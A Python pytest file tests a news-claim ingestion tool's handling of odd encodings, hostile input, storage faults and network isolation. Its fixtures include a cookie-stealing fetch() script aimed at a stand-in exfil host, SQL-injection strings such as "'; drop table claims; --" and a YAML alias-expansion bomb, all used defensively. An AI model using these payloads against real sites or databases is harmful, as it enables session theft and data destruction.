"""Hostile input and faults: the store stays whole, nothing stored is lost,
and every failure is one line that says what went wrong."""
import os
import platform
import signal
import socket
import sqlite3
import subprocess
import sys
import time

import pytest
from typer.testing import CliRunner

from claimledger import ingest as ingest_module
from claimledger import store
from claimledger.cli import app
from claimledger.ingest import chunks
from claimledger.sources import SourceError, decode, read_article

runner = CliRunner()
GOOD = "Brindle Motors said on Monday it will sell 40,000 scooters by 2032.\n"


def invoke(*args, input=None):
    return runner.invoke(app, [str(a) for a in args], input=input)


def errors(result):
    return [line for line in result.output.splitlines() if line.startswith("Error:")]


def counts(path):
    db = sqlite3.connect(path)
    try:
        return db.execute("select count(*) from articles").fetchone()[0], db.execute(
            "select count(*) from claims").fetchone()[0]
    finally:
        db.close()


# --- encodings and content ----------------------------------------------------

def test_utf16_with_bom_is_read():
    assert decode("Kia sold “90,000” trucks.".encode("utf-16")) == "Kia sold “90,000” trucks."


def test_windows_1252_curly_quotes_are_detected():
    data = "Kia said “we will sell 90,000 trucks” in 2026 – a bold target, café owners say.".encode("cp1252")
    assert decode(data) == "Kia said “we will sell 90,000 trucks” in 2026 – a bold target, café owners say."


WESTERN = [
    # text, encoding: undeclared Western bytes are windows-1252 / Latin-1, however short
    ("Le maire a annoncé une naïve réforme du café.", "cp1252"),
    ("Naïve.", "cp1252"),
    ("€5 million", "cp1252"),
    ("“We will open 12 plants,” she said.", "cp1252"),
    ("Señor Núñez of Ærø", "latin-1"),
    ("Zoë Brontë and François Núñez — “quoted” at 3½%.", "cp1252"),
    ("Die Regierung beschloss am Mittwoch höhere Ausgaben für Straßen.", "cp1252"),
]


@pytest.mark.parametrize("text, encoding", WESTERN)
def test_undeclared_western_bytes_are_read_as_windows_1252(text, encoding):
    assert decode(text.encode(encoding)) == text


@pytest.mark.parametrize("text, encoding", [
    ("Правительство утвердило бюджет в среду, сообщило агентство.", "cp1251"),
    ("Η κυβέρνηση ενέκρινε τον προϋπολογισμό την Τετάρτη.", "cp1253"),
    ("Rząd przyjął budżet w wysokości 500 miliardów złotych w środę, poinformował minister.", "cp1250"),
    ("東京で会議が開かれ、政府は予算を承認した。", "shift_jis"),
])
def test_other_scripts_are_still_detected_when_the_evidence_is_strong(text, encoding):
    assert decode(text.encode(encoding)) == text


def test_a_utf8_file_with_one_windows_1252_paragraph_keeps_both():
    data = ("Émilie Roy said the plant — in Lyon — will open.\n\n".encode("utf-8")
            + "“It will cost €40 million,” she said – twice.\n\n".encode("cp1252")
            + "Deliveries start in 2027 at the café’s door.\n".encode("utf-8"))
    assert decode(data) == ("Émilie Roy said the plant — in Lyon — will open.\n\n"
                            "“It will cost €40 million,” she said – twice.\n\n"
                            "Deliveries start in 2027 at the café’s door.\n")


def test_a_page_that_declares_utf8_but_holds_windows_1252_keeps_its_quotation_marks(nlp, tmp_path):
    page = ('<html><head><meta charset="utf-8"><title>Plant</title></head><body><article>'
            '<p>The mayor said “the plant will employ 1,200 people” on Monday.</p></article></body></html>')
    path = tmp_path / "page.html"
    path.write_bytes(page.encode("cp1252"))
    assert "“the plant will employ 1,200 people”" in read_article(str(path)).text


def test_a_declared_charset_is_used_when_the_bytes_agree_with_it():
    # Latin-9 puts the euro sign where windows-1252 has the currency sign ¤
    page = '<html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-15"></head>' \
           '<body><p>It costs €5 million.</p></body></html>'
    assert "€5 million" in decode(page.encode("iso-8859-15"))
    assert decode("Правительство".encode("koi8-r"), declared="koi8-r") == "Правительство"
    # a page labelled Latin-1 is read as windows-1252, as browsers read it
    latin1 = '<meta charset="iso-8859-1"><p>“Quoted”</p>'
    assert decode(latin1.encode("cp1252")) == latin1


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_is_read_not_refused(encoding):
    text = "Kia sold “90,000” trucks in 2025, the company said.\n"
    assert decode(text.encode(encoding)) == text


@pytest.mark.parametrize("data", [
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    bytes(range(256)) * 4,
    b"text\x00with a NUL",
    b"\x01\x02\x03\x04\x05\x06\x07\x08" * 50,
])
def test_binary_content_is_refused_whatever_the_extension(tmp_path, data):
    path = tmp_path / "looks-like-text.txt"
    path.write_bytes(data)
    with pytest.raises(SourceError, match="binary content"):
        read_article(str(path))


def test_emoji_and_combining_marks_keep_offsets_exact(nlp, tmp_path):
    text = "🚀🎉 Cafe\u0301 owners 👩‍👩‍👧 said Brindle will sell 40,000 scooters by 2032.\n"
    (tmp_path / "emoji.txt").write_text(text, encoding="utf-8")
    assert invoke("ingest", tmp_path / "emoji.txt").exit_code == 0
    db = store.connect()
    stored = db.execute("select text from articles").fetchone()[0]
    rows = list(db.query("select surface, span_start, span_end from claims"))
    assert {r["surface"] for r in rows} >= {"40,000", "by 2032"}
    assert all(stored[r["span_start"]:r["span_end"]] == r["surface"] for r in rows)


def test_a_fraction_over_zero_is_a_claim_without_a_value(nlp, tmp_path):
    """Found by the robustness run: '2 45/0' divided by zero and the article failed."""
    (tmp_path / "odd.txt").write_text("Brindle said it will sell 2 45/0 units and 40,000 scooters by 2032.\n")
    result = invoke("ingest", tmp_path / "odd.txt")
    assert result.exit_code == 0, result.output
    values = dict(store.connect().execute("select surface, number from claims where kind = 'number'").fetchall())
    assert values["40,000"] == 40000
    assert values.get("2 45/0", None) is None


def test_malformed_html_is_read(nlp, tmp_path):
    (tmp_path / "bad.html").write_text(
        "<html><head><title>Brindle</title><body><p>Brindle Motors said it will sell 40,000 scooters by 2032."
        "<p><b><i>Unclosed tags</b> everywhere <table><tr><td>cell<div></p></html", encoding="utf-8")
    result = invoke("ingest", tmp_path / "bad.html")
    assert result.exit_code == 0, result.output
    assert store.connect().execute("select count(*) from claims where surface = '40,000'").fetchone()[0] == 1


@pytest.mark.parametrize("front,reason", [
    ("title: [a, b]\n", "title must be text, not a list"),
    ("url: {a: 1}\n", "url must be text, not a dict"),
    ("title: [unclosed\n", "invalid YAML"),
    ("title: " + "x" * 3_000_000 + "\n", "title is 3,000,000 characters, over the limit"),
    ("a: &a [1, 1, 1]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\ntitle: *c\n", "title must be text"),
])
def test_hostile_front_matter_is_refused_in_one_line(nlp, tmp_path, front, reason):
    path = tmp_path / "hostile.md"
    path.write_text(f"---\n{front}---\n\n{GOOD}", encoding="utf-8")
    result = invoke("ingest", path)
    assert result.exit_code == 1
    [line] = errors(result)
    assert reason in line and len(line) < 300


def test_front_matter_with_a_wrong_date_type_keeps_the_article(nlp, tmp_path):
    path = tmp_path / "date.md"
    path.write_text(f"---\ntitle: ok\npublished: not a date\n---\n\n{GOOD}", encoding="utf-8")
    assert invoke("ingest", path).exit_code == 0
    assert store.connect().execute("select published from articles").fetchone()[0] is None


# --- paths --------------------------------------------------------------------

def test_symlink_loops_are_named_and_not_followed(nlp, tmp_path):
    folder = tmp_path / "articles"
    (folder / "sub").mkdir(parents=True)
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "sub" / "up").symlink_to(folder)  # a folder loop
    (folder / "loop.txt").symlink_to(folder / "loop.txt")  # a file that points at itself
    result = invoke("ingest", folder)
    assert result.exit_code == 1
    assert [e.split(": ", 2)[2] for e in errors(result)] == ["broken or looping symbolic link"]
    assert counts(store.connect().conn.execute("pragma database_list").fetchone()[2])[0] == 1


def test_an_unreadable_file_is_named(nlp, tmp_path, monkeypatch):
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "secret.txt").write_text(GOOD.replace("40,000", "50,000"), encoding="utf-8")
    real = type(tmp_path).read_bytes

    def read_bytes(path):
        if path.name == "secret.txt":
            raise PermissionError(13, "Permission denied")
        return real(path)

    monkeypatch.setattr(type(tmp_path), "read_bytes", read_bytes)
    result = invoke("ingest", tmp_path)
    assert result.exit_code == 1
    assert any("secret.txt: cannot read: Permission denied" in e for e in errors(result))
    assert store.connect()["articles"].count == 1


def test_a_file_over_max_bytes_is_refused_with_the_limit(nlp, tmp_path):
    (tmp_path / "big.txt").write_text(GOOD * 100, encoding="utf-8")
    result = invoke("ingest", tmp_path / "big.txt", "--max-bytes", 1000)
    assert result.exit_code == 1
    assert "over the limit of 1,000 (raise it with --max-bytes)" in errors(result)[0]
    assert invoke("ingest", tmp_path / "big.txt", "--max-bytes", 100_000).exit_code == 0


# --- sizes ----------------------------------------------------------------------

def test_a_2mb_paragraph_is_cut_into_pieces_spacy_accepts():
    text = ("word " * 400_000)[:2_000_000]
    pieces = chunks(text)
    assert "".join(piece for _, piece in pieces) == text
    assert all(len(piece) <= ingest_module.CHUNK_CHARS for _, piece in pieces)
    assert all(text[offset:offset + len(piece)] == piece for offset, piece in pieces)
    assert all(piece.endswith(" ") for _, piece in pieces[:-1])  # cut at a space, not inside a word


def test_claims_past_a_cut_keep_their_offsets_in_the_whole_text(nlp, tmp_path, monkeypatch):
    monkeypatch.setattr(ingest_module, "CHUNK_CHARS", 2_000)
    text = "filler words without a stop " * 200 + GOOD + "more filler " * 200
    (tmp_path / "long.txt").write_text(text, encoding="utf-8")
    assert invoke("ingest", tmp_path / "long.txt").exit_code == 0
    db = store.connect()
    stored = db.execute("select text from articles").fetchone()[0]
    rows = list(db.query("select surface, span_start, span_end, sentence_start, sentence_end from claims"))
    assert "40,000" in {r["surface"] for r in rows}
    for r in rows:
        assert stored[r["span_start"]:r["span_end"]] == r["surface"]
        assert r["sentence_start"] <= r["span_start"] < r["span_end"] <= r["sentence_end"]


def test_thousands_of_quotation_marks(nlp, tmp_path):
    text = 'Brindle said "' * 2000 + GOOD + '”“' * 2000
    (tmp_path / "quotes.txt").write_text(text, encoding="utf-8")
    assert invoke("ingest", tmp_path / "quotes.txt").exit_code == 0
    db = store.connect()
    stored = db.execute("select text from articles").fetchone()[0]
    assert all(stored[r["span_start"]:r["span_end"]] == r["surface"]
               for r in db.query("select surface, span_start, span_end from claims"))


# --- the store under faults ----------------------------------------------------------

def write_articles(folder, n):
    folder.mkdir(exist_ok=True)
    for i in range(n):
        (folder / f"{i:03d}.txt").write_text(
            f"Brindle Motors said on Monday that it will sell {1000 + i:,} scooters in {2030 + i % 5}. "
            f"Its chief executive, Ana Ruiz, said profits rose {i + 2}% last year.\n", encoding="utf-8")


def seeded(tmp_path, n):
    """A folder of ``n`` articles and a store holding the first; returns the
    folder, the store and how many claims one article has."""
    folder = tmp_path / "articles"
    write_articles(folder, n)
    db = tmp_path / "claims.db"
    assert subprocess.run(claims_cmd("ingest", folder / "000.txt", "--db", db, "-q")).returncode == 0
    return folder, db, counts(db)[1]


def claims_cmd(*args):
    return [sys.executable, "-m", "claimledger", *[str(a) for a in args]]


def consistent(path, per_article):
    """Every stored article has all its claims, and SQLite finds the file sound."""
    db = sqlite3.connect(path)
    try:
        assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
        rows = db.execute("select a.id, count(c.id) from articles a left join claims c on c.article_id = a.id "
                          "group by a.id").fetchall()
        assert all(n == per_article for _, n in rows), rows
        return len(rows)
    finally:
        db.close()


def test_kill_9_mid_ingest_leaves_a_whole_store_and_the_rerun_completes(nlp, tmp_path):
    folder, db, per_article = seeded(tmp_path, 60)
    process = subprocess.Popen(claims_cmd("ingest", folder, "--db", db, "-q", "--workers", "1"))
    deadline = time.monotonic() + 120
    while counts(db)[0] < 3 and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.05)
    process.send_signal(signal.SIGKILL)
    process.wait()
    stored = consistent(db, per_article)
    assert stored < 60, "the ingest finished before it could be killed"
    rerun = subprocess.run(claims_cmd("ingest", folder, "--db", db, "-q"))
    assert rerun.returncode == 0
    assert consistent(db, per_article) == 60


def test_two_ingests_at_once_both_succeed(nlp, tmp_path):
    folder, db, per_article = seeded(tmp_path, 16)
    first = subprocess.Popen(claims_cmd("ingest", folder, "--db", db, "-q"))
    second = subprocess.Popen(claims_cmd("ingest", *sorted(folder.iterdir(), reverse=True), "--db", db, "-q"))
    assert first.wait() == 0 and second.wait() == 0
    assert consistent(db, per_article) == 16


def test_verify_while_an_ingest_runs(nlp, tmp_path):
    folder, db, _ = seeded(tmp_path, 30)
    process = subprocess.Popen(claims_cmd("ingest", folder, "--db", db, "-q"))
    while counts(db)[0] < 2 and process.poll() is None:
        time.sleep(0.05)
    verify = subprocess.run(claims_cmd("verify", 1, "--verdict", "accurate", "--db", db), capture_output=True,
                            text=True)
    assert verify.returncode == 0, verify.stderr
    assert process.wait() == 0
    assert sqlite3.connect(db).execute("select count(*) from reviews").fetchone()[0] == 1


@pytest.fixture
def limited_store(monkeypatch):
    """store.connect, then a fault applied to the connection."""
    real = store.connect

    def install(fault):
        def connect(path=None):
            db = real(path)
            fault(db)
            return db

        monkeypatch.setattr(store, "connect", connect)

    return install


def test_a_full_disk_is_one_line_and_keeps_what_was_stored(nlp, tmp_path, isolated_store, limited_store):
    write_articles(tmp_path / "articles", 40)
    assert invoke("ingest", tmp_path / "articles" / "000.txt").exit_code == 0
    before = counts(isolated_store)

    def nearly_full(db):  # SQLITE_FULL, as on a full disk
        pages = db.execute("pragma page_count").fetchone()[0]
        db.execute(f"pragma max_page_count = {pages + 2}")

    limited_store(nearly_full)
    result = invoke("ingest", tmp_path / "articles")
    assert result.exit_code == 1
    [line] = errors(result)
    assert line.startswith("Error: cannot write to the store: database or disk is full")
    after = counts(isolated_store)
    assert after[0] >= before[0] and consistent(isolated_store, before[1]) == after[0]


def test_an_article_failing_to_store_is_one_line_and_the_others_land(nlp, tmp_path, isolated_store, monkeypatch):
    from claimledger.store import articles

    write_articles(tmp_path / "articles", 5)
    real, calls = articles.deadlines, []

    def deadlines(claims):  # fails on the third article, after its row is written
        calls.append(claims)
        if len(calls) == 3:
            raise sqlite3.IntegrityError("constraint failed")
        real(claims)

    monkeypatch.setattr(articles, "deadlines", deadlines)
    result = invoke("ingest", tmp_path / "articles")
    assert result.exit_code == 1
    assert errors(result) == [f"Error: {tmp_path / 'articles' / '002.txt'}: storage failed: IntegrityError: "
                              "constraint failed"]
    assert "4 articles stored, 0 duplicates skipped, 1 failed" in result.output
    monkeypatch.undo()
    assert consistent(isolated_store, counts(isolated_store)[1] // 4) == 4  # the failed one left nothing behind


BREAK_VALUES = """
from claimledger.extract import values

real = values.ValueNormalizer.__call__


def broken(self, doc):
    if "Ruiz" in doc.text:
        raise TypeError("'>' not supported between instances of 'NoneType' and 'datetime.date'")
    return real(self, doc)


values.ValueNormalizer.__call__ = broken
"""


@pytest.mark.parametrize("workers", ["1", "2"])
def test_an_article_failing_in_extraction_is_one_line_and_the_others_land(nlp, tmp_path, workers):
    """One process and --workers alike: the batch is extracted again an
    article at a time, so only the article that fails is lost.  The fault is
    installed in every process by a sitecustomize module."""
    folder = tmp_path / "articles"
    write_articles(folder, 6)
    (folder / "003.txt").write_text("Ana Ruiz said profits rose 4% last year.\n", encoding="utf-8")
    for i in (0, 1, 2, 4, 5):
        (folder / f"{i:03d}.txt").write_text(f"Brindle Motors will sell {1000 + i:,} scooters in 2030.\n")
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(BREAK_VALUES, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": f"{hook}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
    db = tmp_path / "claims.db"
    run = subprocess.run(claims_cmd("ingest", folder, "--db", db, "--workers", workers), env=env,
                         capture_output=True, text=True)
    assert run.returncode == 1
    assert [line for line in run.stderr.splitlines() if line.startswith("Error:")] == [
        f"Error: {folder / '003.txt'}: extraction failed: TypeError: '>' not supported between instances of "
        "'NoneType' and 'datetime.date'"]
    assert "Traceback" not in run.stderr
    assert counts(db)[0] == 5
    if workers != "1":
        return
    debug = subprocess.run(claims_cmd("--debug", "ingest", folder / "003.txt", "--db", db), env=env,
                           capture_output=True, text=True)
    assert debug.returncode == 1
    assert "Traceback (most recent call last)" in debug.stderr and "in broken" in debug.stderr


def test_a_read_only_store_is_one_line(nlp, tmp_path, isolated_store, monkeypatch):
    (tmp_path / "a.txt").write_text(GOOD, encoding="utf-8")
    assert invoke("ingest", tmp_path / "a.txt").exit_code == 0
    (tmp_path / "b.txt").write_text(GOOD.replace("40,000", "60,000"), encoding="utf-8")
    real = sqlite3.connect
    monkeypatch.setattr(sqlite3, "connect", lambda path, **kw: real(f"file:{path}?mode=ro", uri=True, **kw))
    result = invoke("ingest", tmp_path / "b.txt")
    assert result.exit_code == 1
    [line] = errors(result)
    assert "readonly database" in line
    monkeypatch.undo()
    assert counts(isolated_store)[0] == 1


# --- safety ------------------------------------------------------------------

def test_ingest_never_reaches_the_network(nlp, tmp_path, monkeypatch):
    attempts = []

    def refuse(self, address):
        attempts.append(address)
        raise OSError("network use in a test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    (tmp_path / "page.html").write_text(
        '<html><head><link rel="stylesheet" href="https://cdn.example/x.css">'
        '<script src="https://tracker.example/t.js"></script><meta http-equiv="refresh" content="0;url=https://x.example">'
        '</head><body><img src="https://img.example/a.png"><iframe src="https://frame.example"></iframe>'
        "<article><p>Brindle Motors said it will sell 40,000 scooters by 2032.</p>"
        "<script>fetch('https://exfil.example/' + document.cookie)</script></article></body></html>",
        encoding="utf-8")
    result = invoke("ingest", tmp_path / "page.html")
    assert result.exit_code == 0, result.output
    assert attempts == []
    text = store.connect().execute("select text from articles").fetchone()[0]
    assert "fetch(" not in text and "40,000" in text


@pytest.mark.parametrize("hostile", ["'; drop table claims; --", '" OR 1=1 --', "claims_fts MATCH '*'", "NEAR("])
def test_user_input_never_becomes_sql(nlp, isolated_store, tmp_path, hostile):
    (tmp_path / "a.txt").write_text(GOOD, encoding="utf-8")
    assert invoke("ingest", tmp_path / "a.txt").exit_code == 0
    result = invoke("list", "--search", hostile, "--json")
    assert result.exit_code == 0 and result.output.strip() == "[]"
    result = invoke("verify", 1, "--verdict", "accurate", "--note", hostile, "--by", hostile)
    assert result.exit_code == 0
    assert counts(isolated_store) == (1, counts(isolated_store)[1]) and counts(isolated_store)[1] > 0


ARENA_PROBE = """
import ctypes, sys, tempfile, threading
from claimledger.ingest import one_malloc_arena
if sys.argv[1] == "one":
    assert one_malloc_arena()
def allocate():
    kept = [bytearray(50_000) for _ in range(50)]  # below the mmap threshold: from an arena
thread = threading.Thread(target=allocate)
thread.start()
thread.join()
libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
path = tempfile.mktemp()
report = libc.fopen(path.encode(), b"w")
libc.malloc_info(0, ctypes.c_void_p(report))
libc.fclose(ctypes.c_void_p(report))
print(open(path).read().count("<heap nr="))
"""


@pytest.mark.skipif(not sys.platform.startswith("linux") or platform.libc_ver()[0] != "glibc"
                    or "MALLOC_ARENA_MAX" in os.environ, reason="glibc's default arenas only")
def test_the_ingest_process_keeps_one_malloc_arena_for_its_threads():
    """Otherwise the model thread's freed memory is kept apart from the
    caller's and the peaks of the two add up (docs/performance.md)."""
    heaps = {mode: subprocess.run([sys.executable, "-c", ARENA_PROBE, mode], capture_output=True, text=True,
                                  check=True).stdout.split()
             for mode in ("default", "one")}
    assert int(heaps["default"][0]) > 1 and heaps["one"] == ["1"]
